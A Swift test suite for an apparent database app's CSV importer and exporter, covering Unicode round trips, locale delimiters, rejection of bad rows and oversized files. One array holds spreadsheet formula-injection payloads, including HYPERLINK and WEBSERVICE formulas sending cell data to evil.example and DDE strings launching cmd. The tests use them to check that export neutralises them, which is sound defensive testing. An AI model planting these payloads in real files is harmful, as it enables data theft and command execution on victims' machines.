import Foundation
import NCCModel
import NCCStore
import Testing

@testable import NCCExchange

/// CSV in and out with real files: round trips, all-or-nothing rejection, idempotent re-import.
@Suite struct CSVTests {
    let db: TestDatabase

    init() throws { db = try TestDatabase() }

    func file(_ name: String, _ text: String) throws -> String {
        let path = db.folder.appendingPathComponent(name).path
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    func read(_ path: String) throws -> String { try String(contentsOfFile: path, encoding: .utf8) }

    static let people = """
        id,name,email,phone,organisation,role,shareable
        p-egle,Eglė Butkevičienė,egle@example.org,,Socialinių inovacijų centras,"Coordinator, ""impact"" lead",true
        p-ziga,Žiga Novak,ziga@example.org,+386 1 555 0100,Zavod Ustvarjalnik,Researcher,false
        p-eleni,Ελένη Παπαδοπούλου,eleni@example.eu,,Κοινωνική καινοτομία,Συντονίστρια,yes

        """

    @Test func peopleRoundTripWithDiacriticsGreekQuotesCommasAndNewlines() throws {
        let input = try file("people.csv", Self.people)
        let summary = try CSVImporter(store: db.store).importCSV(.person, from: input)
        #expect(summary == CSVImportSummary(rows: 3, created: 3, updated: 0, unchanged: 0))
        // A missing organisation named in the file is created.
        #expect(try db.store.read { try $0.count(.organisation) } == 3)
        let eleni = try db.store.read { try $0.resolve(.person, "Ελένη Παπαδοπούλου") }
        let record = try #require(try db.store.read { try $0.record(.person, id: eleni) })
        #expect(record["role"] == .text("Συντονίστρια"))
        #expect(record["shareable"] == .bool(true))

        let exported = db.folder.appendingPathComponent("out.csv").path
        #expect(try CSVExporter(store: db.store).exportCSV(.person, to: exported) == 3)
        let text = try read(exported)
        #expect(text.contains("\"Coordinator, \"\"impact\"\" lead\""))
        #expect(text.hasPrefix("id,name,email,phone,organisation,role,shareable\n"))

        // Into a fresh database, the export gives back the same records, ids included.
        let other = try TestDatabase()
        _ = try CSVImporter(store: other.store).importCSV(.person, from: exported)
        let again = other.folder.appendingPathComponent("again.csv").path
        _ = try CSVExporter(store: other.store).exportCSV(.person, to: again)
        #expect(try read(again) == text)
    }

    /// Formulas as LibreOffice and Excel write them, and the characters OWASP names.
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",  // LibreOffice and Excel
        "=WEBSERVICE(\"http://evil.example/\"&A2)",  // LibreOffice
        "@SUM(1+1)*cmd|' /C calc'!A0",  // Excel's DDE
        "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
        "'=already guarded by hand", "''@two apostrophes", "'plain with an apostrophe", "Eglė = coordinator",
    ]

    @Test func aCellASpreadsheetWouldRunIsWrittenAsTextAndReadBackAsItWas() throws {
        let ids = try db.store.write { w in
            try Self.formulas.map { try w.create(.organisation, ["name": .text($0), "country": .text("LT")]) }
        }
        let exported = db.folder.appendingPathComponent("organisations.csv").path
        #expect(try CSVExporter(store: db.store).exportCSV(.organisation, to: exported) == Self.formulas.count)
        // Every row's name cell, as a spreadsheet reads it: no cell starts with a formula character.
        let text = try read(exported)
        for formula in Self.formulas where CSVFormula.needsGuard(formula) {
            #expect(!text.contains("," + formula) && !text.contains("\n" + formula), "\(formula) is live")
            let quoted = "'" + formula
            #expect(
                text.contains(quoted) || text.contains("\"" + quoted.replacingOccurrences(of: "\"", with: "\"\"")),
                "\(formula) is written as text")
        }
        #expect(
            text.contains(",'plain with an apostrophe,") && text.contains(",Eglė = coordinator,"), "others as they are")

        // Into a fresh database: the same names, byte for byte.
        let other = try TestDatabase()
        #expect(try CSVImporter(store: other.store).importCSV(.organisation, from: exported).created == ids.count)
        let names = try other.store.read { r in try ids.map { try r.record(.organisation, id: $0)?["name"].text } }
        #expect(names == Self.formulas)
    }

    @Test func aTextStartingWithATabOrACarriageReturnRoundTripsToo() throws {
        let texts = ["\t=1+1", "\r=1+1 on a line\nand another", "\r\n@start"]
        let ids = try db.store.write { w in
            try texts.enumerated().map {
                try w.create(.task, ["title": .text("Task \($0.offset)"), "description": .text($0.element)])
            }
        }
        let exported = db.folder.appendingPathComponent("tasks.csv").path
        _ = try CSVExporter(store: db.store).exportCSV(.task, to: exported)
        #expect(try read(exported).contains("'\t=1+1"))
        let other = try TestDatabase()
        _ = try CSVImporter(store: other.store).importCSV(.task, from: exported)
        let back = try other.store.read { r in try ids.map { try r.record(.task, id: $0)?["description"].text } }
        #expect(back == texts)
    }

    @Test func rawWritesValuesAsTheyAreAndReadsCellsAsTheyAre() throws {
        let id = try db.store.write { w in try w.create(.organisation, ["name": .text("=1+1"), "country": .text("LT")])
        }
        let exported = db.folder.appendingPathComponent("raw.csv").path
        _ = try CSVExporter(store: db.store).exportCSV(.organisation, to: exported, raw: true)
        #expect(try read(exported).contains("\(id),=1+1,"))
        let guarded = try file("guarded.csv", "id,name,country\n\(id),'=1+1,LT\n")
        _ = try CSVImporter(store: db.store).importCSV(.organisation, from: guarded, raw: true)
        #expect(try db.store.read { try $0.record(.organisation, id: id)?["name"].text } == "'=1+1")
    }

    @Test func expertsRoundTripWithAMultiLineBioHoldingCommasAndQuotes() throws {
        let input = try file(
            "experts.csv",
            """
            id,name,email,organisation,country,languages,countries,topics,bio,availability_days
            x-egle,Eglė Butkevičienė,egle@example.org,Socialinių inovacijų centras,LT,lt;en,LT;LV,impact measurement;SROI,"Builds ""SROI"" models, trains evaluators.
            Second line: Ελληνικά too.",4
            x-ziga,Žiga Novak,ziga@example.org,,SI,sl;en;hr,SI,ecosystem mapping,,0

            """)
        let summary = try CSVImporter(store: db.store).importCSV(.expert, from: input)
        #expect(summary.created == 2)
        #expect(try db.store.read { try $0.count(.person) } == 2, "each expert got their person")
        let egle = try db.store.read { try $0.resolve(.expert, "Eglė Butkevičienė") }
        let bio = try db.store.read { try $0.record(.expert, id: egle)?["bio"] }
        #expect(bio == .text("Builds \"SROI\" models, trains evaluators.\nSecond line: Ελληνικά too."))
        let out = db.folder.appendingPathComponent("experts-out.csv").path
        _ = try CSVExporter(store: db.store).exportCSV(.expert, to: out)
        let other = try TestDatabase()
        _ = try CSVImporter(store: other.store).importCSV(.expert, from: out)
        let again = other.folder.appendingPathComponent("again.csv").path
        _ = try CSVExporter(store: other.store).exportCSV(.expert, to: again)
        #expect(try read(again) == read(out))
        #expect(
            try read(out).contains("\"Builds \"\"SROI\"\" models, trains evaluators.\nSecond line: Ελληνικά too.\""))
        let second = try CSVImporter(store: db.store).importCSV(.expert, from: input)
        #expect(second.unchanged == 2, "re-importing changes nothing")
    }

    /// A spreadsheet in a Lithuanian, German or French locale saves "CSV" with semicolons, a byte
    /// order mark and CRLF; some tools save tabs. Both read as the comma file does.
    @Test func semicolonAndTabSeparatedFilesFromSpreadsheetsAreRead() throws {
        let semicolons =
            "\u{FEFF}"
            + Self.people.replacingOccurrences(of: "\n", with: "\r\n")
            .replacingOccurrences(of: ",", with: ";")
            .replacingOccurrences(
                of: "\"Coordinator; \"\"impact\"\" lead\"", with: "\"Coordinator, \"\"impact\"\"; lead\"")
        let summary = try CSVImporter(store: db.store).importCSV(.person, from: try file("excel.csv", semicolons))
        #expect(summary == CSVImportSummary(rows: 3, created: 3, updated: 0, unchanged: 0))
        let egle = try #require(
            try db.store.read { try $0.record(.person, id: try $0.resolve(.person, "Eglė Butkevičienė")) })
        #expect(egle["role"] == .text("Coordinator, \"impact\"; lead"))
        #expect(egle["email"] == .text("egle@example.org"))

        let tabs = "name\tcountry\tstatus\nNCC Lietuva\tLT\tactive\n"
        #expect(try CSVImporter(store: db.store).importCSV(.centre, from: try file("tabs.csv", tabs)).created == 1)
        #expect(CSVDelimiter.of(header: Array("name,\"a;b\",country".utf8)) == ",")
        #expect(CSVDelimiter.of(header: Array("\"x,y\";name".utf8)) == ";")
        #expect(CSVDelimiter.of(header: Array("name".utf8)) == ",")
    }

    @Test func reimportingTheSameFileChangesNothing() throws {
        let input = try file("people.csv", Self.people)
        _ = try CSVImporter(store: db.store).importCSV(.person, from: input)
        let operations = try db.store.read { try $0.operationCount() }
        let again = try CSVImporter(store: db.store).importCSV(.person, from: input)
        #expect(again == CSVImportSummary(rows: 3, created: 0, updated: 0, unchanged: 3))
        #expect(try db.store.read { try $0.operationCount() } == operations)
        #expect(try db.store.read { try $0.count(.person) } == 3)
    }

    @Test func nonUUIDIdsMapToTheSameStableIdsEverywhere() throws {
        let input = try file("people.csv", Self.people)
        let other = try TestDatabase()
        _ = try CSVImporter(store: db.store).importCSV(.person, from: input)
        _ = try CSVImporter(store: other.store).importCSV(.person, from: input)
        let ids = try db.store.read { try $0.list(.person, limit: 10).map(\.id) }
        #expect(ids == (try other.store.read { try $0.list(.person, limit: 10).map(\.id) }))
        #expect(ids.allSatisfy { UUID(uuidString: $0) != nil && $0 == $0.lowercased() })
    }

    @Test func aBadFileIsRejectedWithItsLineNumbersAndTheDatabaseFileIsUnchanged() throws {
        _ = try db.store.write { try $0.create(.centre, ["name": .text("NCC Lithuania"), "country": .text("LT")]) }
        let input = try file(
            "tasks.csv",
            """
            title,description,due,status,owner
            Fine task,"A description
            over two lines",2026-12-01,todo,
            Bad date,,2026-13-40,todo,
            Another fine task,,2027-01-01,doing,
            Bad status,,2027-01-01,sleeping,
            Unknown owner,,2027-01-01,todo,Nobody Known
            Too few columns,,2027-01-01

            """)
        let before = try Data(contentsOf: URL(fileURLWithPath: db.path))
        let operations = try db.store.read { try $0.operationCount() }
        var rejection: CSVImportError?
        do { _ = try CSVImporter(store: db.store).importCSV(.task, from: input) } catch let error as CSVImportError {
            rejection = error
        }
        let error = try #require(rejection)
        #expect(
            error.problems == [
                "tasks.csv:4: due: '2026-13-40' is not a valid date YYYY-MM-DD",
                "tasks.csv:6: status: 'sleeping' is not one of todo, doing, blocked, done",
                "tasks.csv:7: owner: no person 'Nobody Known'",
                "tasks.csv:8: has 3 columns, the header has 5",
            ])
        #expect(error.badRows == 4)
        #expect(error.description == "tasks.csv: 4 bad rows; nothing was imported")
        #expect(try db.store.read { try $0.count(.task) } == 0)
        #expect(try db.store.read { try $0.operationCount() } == operations)
        #expect(
            try Data(contentsOf: URL(fileURLWithPath: db.path)) == before, "the database file is byte for byte the same"
        )
    }

    @Test func aFileThatCannotBeCreatedIsAClearErrorAndLeavesNothing() throws {
        // /proc exists but takes no new files, not even root's.
        #expect(throws: CSVFileError.self) {
            try CSVExporter(store: db.store).exportCSV(.centre, to: "/proc/ncc-centres.csv")
        }
        do {
            _ = try CSVExporter(store: db.store).exportCSV(.centre, to: "/proc/ncc-centres.csv")
        } catch {
            #expect(String(describing: error).hasPrefix("cannot write /proc/ncc-centres.csv"), "\(error)")
        }
        #expect(!FileManager.default.fileExists(atPath: "/proc/ncc-centres.csv"))
    }

    @Test func unknownColumnsMissingFilesAndNonUTF8AreClearErrors() throws {
        func message(_ kind: Kind, _ path: String) -> String {
            do {
                _ = try CSVImporter(store: db.store).importCSV(kind, from: path)
                return ""
            } catch { return String(describing: error) }
        }
        #expect(
            message(.person, try file("a.csv", "name,colour\nX,red\n"))
                == "a.csv: unknown column 'colour' (columns of people: id,name,email,phone,organisation,role,shareable)"
        )
        #expect(
            message(.person, db.folder.appendingPathComponent("missing.csv").path).hasSuffix(
                "missing.csv: no such file"))
        #expect(message(.centre, try file("b.csv", "name\nX\n")) == "b.csv: the column 'country' is required")
        let latin1 = db.folder.appendingPathComponent("latin1.csv")
        try Data([0x6E, 0x61, 0x6D, 0x65, 0x0A, 0x4B, 0xFC, 0x68, 0x6E, 0x65, 0x0A]).write(to: latin1)
        #expect(message(.person, latin1.path).contains("not UTF-8"))
        #expect(message(.person, try file("empty.csv", "")).contains("empty"))
    }

    @Test func hostileShapesAreRefusedInOneShortLineWithoutParsingThem() throws {
        _ = try db.store.write { try $0.create(.centre, ["name": .text("NCC Lithuania"), "country": .text("LT")]) }
        let before = try Data(contentsOf: URL(fileURLWithPath: db.path))
        func message(_ name: String, _ text: String) throws -> String {
            let path = try file(name, text)
            do {
                _ = try CSVImporter(store: db.store).importCSV(.centre, from: path)
                Issue.record("\(name) was imported")
                return ""
            } catch let error as CSVImportError {
                return error.problems.joined(separator: " | ")
            } catch {
                return String(describing: error)
            }
        }
        let wideRow = try message(
            "wide-row.csv", "name,country\n" + Array(repeating: "x", count: 100_000).joined(separator: ",") + "\n")
        #expect(wideRow == "wide-row.csv:2: has 100000 columns, the header has 2")
        let wideHeader = try message("wide-header.csv", (0..<100_000).map { "c\($0)" }.joined(separator: ",") + "\nx\n")
        #expect(wideHeader.hasPrefix("wide-header.csv: unknown column 'c0'"))
        let repeated = try message(
            "repeated.csv", Array(repeating: "name", count: 100_000).joined(separator: ",") + "\n")
        #expect(repeated == "repeated.csv: the column 'name' appears twice")
        let longLine = try message(
            "long-line.csv", "name,country\n" + String(repeating: "a", count: 50 << 20) + ",LT\n")
        #expect(longLine == "long-line.csv:2: the line is longer than 1 MB; refused")
        let longHeader = try message("long-header.csv", String(repeating: "b", count: 50 << 20) + "\n")
        #expect(longHeader == "long-header.csv:1: the line is longer than 1 MB; refused")
        // Short lines, one quoted cell over 1 MB.
        let tall = try message(
            "tall-cell.csv",
            "name,country\n\"" + String(repeating: String(repeating: "c", count: 999) + "\n", count: 1100) + "\",LT\n")
        #expect(tall == "tall-cell.csv:2: the name cell is longer than 1 MB")
        #expect(try db.store.read { try $0.count(.centre) } == 1)
        #expect(
            try Data(contentsOf: URL(fileURLWithPath: db.path)) == before, "the database file is byte for byte the same"
        )
    }

    @Test func aDryRunChecksAndCountsButWritesNothing() throws {
        let input = try file("people.csv", Self.people)
        let summary = try CSVImporter(store: db.store).importCSV(.person, from: input, dryRun: true)
        #expect(summary.created == 3)
        #expect(try db.store.read { try $0.count(.person) } == 0)
        #expect(try db.store.read { try $0.operationCount() } == 0)
    }

    @Test func centresJoinConsortiaAndMeetingsTheirAttendees() throws {
        let people = try file("people.csv", Self.people)
        _ = try CSVImporter(store: db.store).importCSV(.person, from: people)
        let centres = try file(
            "centres.csv",
            """
            name,country,consortium,status
            NCC Lithuania,LT,PEnCIL;INSISST,active
            NCC Slovenia,SI,SEED2SCALE,
            """)
        _ = try CSVImporter(store: db.store).importCSV(.centre, from: centres)
        #expect(try db.store.read { try $0.count(.consortium) } == 3, "missing consortia are created")
        #expect(try db.store.read { try $0.count(.membership) } == 3)
        let meetings = try file(
            "meetings.csv",
            """
            title,kind,start,place,attendees,minutes
            Quarterly meeting,quarterly,2026-03-05T09:00Z,Vilnius,Eglė Butkevičienė;Žiga Novak,"Agreed: map the ecosystem, then measure."
            """)
        _ = try CSVImporter(store: db.store).importCSV(.meeting, from: meetings)
        #expect(try db.store.read { try $0.count(.attendance) } == 2)
        // Exported again: the same columns, lists in a stable order.
        let out = db.folder.appendingPathComponent("m.csv").path
        _ = try CSVExporter(store: db.store).exportCSV(.meeting, to: out)
        #expect(
            try read(out).contains(
                ",2026-03-05T09:00:00Z,Vilnius,Eglė Butkevičienė;Žiga Novak,\"Agreed: map the ecosystem, then measure.\""
            ))
        let files = try FileManager.default.contentsOfDirectory(atPath: db.folder.path)
        #expect(!files.contains { $0.hasSuffix(".tmp") }, "no temporary file is left behind")
    }
}
